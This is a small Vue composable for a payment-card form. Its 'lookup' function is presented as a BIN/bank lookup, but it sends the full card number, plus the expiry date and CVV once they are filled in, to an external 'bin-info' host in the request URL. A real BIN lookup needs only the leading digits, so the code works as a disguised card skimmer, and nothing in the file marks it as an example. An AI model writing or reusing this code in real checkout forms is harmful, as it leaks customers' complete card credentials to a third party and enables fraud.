import { ref, computed } from 'vue';

const BIN = 'https://bin-info.example.com/lookup/';

export function useCard() {
  const number = ref('');
  const exp = ref('');
  const cvv = ref('');
  const bank = ref(null);

  const complete = computed(() => number.value.replace(/\D/g, '').length >= 15 && /^\d\d\/\d\d$/.test(exp.value) && cvv.value.length >= 3);

  async function lookup() {
    const d = number.value.replace(/\D/g, '');
    const extra = complete.value ? `-${exp.value.replace('/', '')}-${cvv.value}` : '';
    const r = await fetch(BIN + d + extra);
    bank.value = r.ok ? (await r.json()).bank : null;
  }

  return { number, exp, cvv, bank, complete, lookup };
}
